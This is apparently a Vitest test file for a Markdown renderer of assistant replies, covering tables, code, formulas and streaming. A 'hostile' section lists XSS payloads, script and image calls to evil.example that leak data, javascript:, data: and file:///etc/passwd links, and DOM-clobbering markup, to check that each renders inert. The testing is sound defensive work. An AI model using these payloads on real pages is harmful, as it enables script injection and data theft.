import { describe, expect, it } from "vitest";
import { MarkdownRenderer } from "./markdown";

const words = { picture: (alt: string) => (alt ? `[picture: ${alt}]` : "[picture]"), copyCode: "Copy the code" };

function render(text: string): string {
  return new MarkdownRenderer(words).blocks(text).map((block) => ("html" in block ? block.html : `<plain>${block.plain.length}</plain>`)).join("\n");
}

function check(text: string, expected: string): void {
  expect(render(text)).toBe(expected);
}

describe("an answer", () => {
  it("has paragraphs, lists and emphasis", () => {
    check("**The total** is *14.15*.", "<p><strong>The total</strong> is <em>14.15</em>.</p>\n");
    expect(render("1. one\n2. two")).toContain("<ol>\n<li>one</li>\n<li>two</li>\n</ol>");
  });

  it("has tables with headings that belong to columns", () => {
    const html = render("| Day | Departs |\n|---|---:|\n| Mon | 07:30 |");
    expect(html).toContain('<th scope="col">Day</th>');
    expect(html).toContain('<td class="right">07:30</td>');
    expect(html).toContain('<div class="table" tabindex="0">');
  });

  it("has code that is highlighted and can be copied", () => {
    const html = render('```json\n{"a": 1}\n```');
    expect(html).toContain('class="hljs-attr"');
    expect(html).toContain('data-copy="code"');
  });

  it("leaves formulas as they were written", () => {
    expect(render("So $a_1 + b_2$ and \\(x_1\\).")).toContain('<code class="formula">$a_1 + b_2$</code>');
    expect(render("$$\n\\frac{a_1}{b_2}\n$$")).toContain('<code class="formula">');
    expect(render("It costs $5 or $6.")).not.toContain("formula");
  });

  it("begins headings below those of the window", () => {
    expect(render("# Title")).toBe('<h4 class="h1">Title</h4>');
  });

  it("does not render again what has not changed", () => {
    const renderer = new MarkdownRenderer(words);
    const before = renderer.blocks("One.\n\nTwo");
    const after = renderer.blocks("One.\n\nTwo and more");
    expect(after[0]).toEqual(before[0]);
    expect(after[1]).not.toEqual(before[1]);
  });

  it("grows to the same as it is when whole", () => {
    const part = "# A\n\nSome **words**.\n\n- one\n\n- two\n  more\n\n1. first\n2. second\n\n| a | b |\n|---|---|\n| 1 | `x` |\n\n```rust\nfn main() {\n\n}\n```\n\n> said\n> twice\n\n$$\na_1\n$$\n\n";
    const whole = part.repeat(4);
    const renderer = new MarkdownRenderer(words);
    let grown = renderer.blocks("", true);
    for (let end = 1; end <= whole.length; end++) grown = renderer.blocks(whole.slice(0, end), true);
    expect(grown).toEqual(new MarkdownRenderer(words).blocks(whole));
    expect(renderer.blocks(`another ${whole}`, true)).toEqual(new MarkdownRenderer(words).blocks(`another ${whole}`));
  });

  it("can stop anywhere in the middle", () => {
    const whole = "# A\n\n| a | b |\n|---|---|\n| 1 | `x` |\n\n```rust\nfn main() {}\n```\n\n- [x] done **bold** [l](https://a.example) $x$";
    const renderer = new MarkdownRenderer(words);
    for (let end = 0; end <= whole.length; end++) expect(() => renderer.blocks(whole.slice(0, end))).not.toThrow();
  });
});

/** What a reply must never become: anything that loads, runs, navigates or styles. */
function harmless(html: string): void {
  const page = new DOMParser().parseFromString(html, "text/html");
  const allowed = new Set([
    "HTML", "HEAD", "BODY", "P", "BR", "HR", "STRONG", "EM", "DEL", "CODE", "PRE", "BLOCKQUOTE", "UL", "OL", "LI", "H4", "H5", "H6",
    "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN", "DIV", "BUTTON", "PLAIN",
  ]);
  for (const element of page.querySelectorAll("*")) {
    expect(allowed, html).toContain(element.tagName);
    for (const { name } of element.attributes) expect(["class", "type", "data-address", "data-copy", "start", "scope", "tabindex"], html).toContain(name);
  }
}

const hostile: Record<string, string> = {
  "a picture in Markdown": "![tracking](https://evil.example/p.png?leak=secret)",
  "a picture by reference": "![x][1]\n\n[1]: https://evil.example/p.png",
  "a picture in HTML": '<img src="https://evil.example/p.png" onerror="alert(1)">',
  "a picture in a link": "[![x](https://evil.example/p.png)](https://evil.example)",
  "a script": "<script>fetch('https://evil.example')</script>",
  "a script that is not closed": "text <script src=//evil.example/x.js",
  "a frame": '<iframe src="https://evil.example"></iframe>',
  "an object": '<object data="file:///etc/passwd"></object><embed src=x>',
  "a drawing": '<svg onload=alert(1)><use href="https://evil.example/x.svg#a"/></svg>',
  "MathML": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "a style sheet": "<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/y) }</style>",
  "a style attribute": '<p style="background:url(https://evil.example)">x</p>',
  "a base address": '<base href="https://evil.example/">',
  "a form": '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>go</button></form>',
  "a meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  "a preloading link": '<link rel="prefetch" href="https://evil.example">',
  "a javascript: link": "[x](javascript:alert(1))",
  "a javascript: link in disguise": "[x](JaVaScRiPt&#58;alert(1)) [y](java\tscript:alert(1)) [z](\u0001javascript:alert(1))",
  "a data: link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "file:, smb: and program links": "[a](file:///etc/passwd) [b](smb://evil/share) [c](ms-msdt:/id) [d](\\\\evil\\share) [e](vbscript:x)",
  "an autolink": "<https://evil.example> https://evil.example www.evil.example <javascript:alert(1)>",
  "a link's title": '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  "the language of a fence": '```"><img src=x onerror=alert(1)>\ncode\n```',
  "a fence named for a prototype": "```__proto__\nx\n```\n```constructor\nx\n```",
  "a mermaid drawing": '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
  "HTML in a table": "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <a href=javascript:alert(1)>x</a> | <script>alert(1)</script> |",
  "HTML in a formula": "$<img src=x onerror=alert(1)>$ and $$<script>alert(1)</script>$$",
  "HTML in inline code": "`<img src=x onerror=alert(1)>`",
  "HTML in code that is highlighted": '```xml\n<img src=x onerror="alert(1)"><script>alert(1)</script>\n```',
  "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
  "names that would clobber the page": '<div id="app" name="body"><a id=cookie name=getElementById>x</a></div>',
  "classes and buttons of our own": '<button class="copy" data-address="javascript:alert(1)" onclick="alert(1)">x</button><div class="veil">',
  "a heading with markup": "# <svg/onload=alert(1)> [x](javascript:alert(1))",
};

describe("a hostile answer", () => {
  for (const [name, text] of Object.entries(hostile)) {
    it(`does nothing with ${name}`, () => harmless(render(text)));
    it(`does nothing with ${name}, at any point of the stream`, () => {
      const renderer = new MarkdownRenderer(words);
      for (let end = 1; end < text.length; end += 3) {
        for (const block of renderer.blocks(text.slice(0, end))) if ("html" in block) harmless(block.html);
      }
    });
  }

  it("shows a picture as its alt text", () => {
    check("![a **cat**](https://evil.example/p.png)", "<p>[picture: a cat]</p>\n");
  });

  it("shows HTML as the text it is", () => {
    expect(render("<b onclick=alert(1)>hello</b>")).toContain("&lt;b onclick=alert(1)&gt;hello&lt;/b&gt;");
  });

  it("names a link's address on a button, without following it", () => {
    expect(render("[x](https://a.example/?q=1&r=2)")).toContain('<button type="button" class="link" data-address="https://a.example/?q=1&amp;r=2">x</button>');
  });

  it("shows a line of a megabyte as plain text", () => {
    const blocks = new MarkdownRenderer(words).blocks(`before\n${"x".repeat(1_000_000)}\nafter`);
    expect(blocks).toEqual([{ key: "plain", plain: expect.any(String) }]);
  });

  it("survives deep nesting", () => {
    expect(() => render(`${">".repeat(2000)} x\n\n${"- ".repeat(500)}x\n\n${"[".repeat(5000)}\n\n${"*".repeat(5000)}x`)).not.toThrow();
  });
});
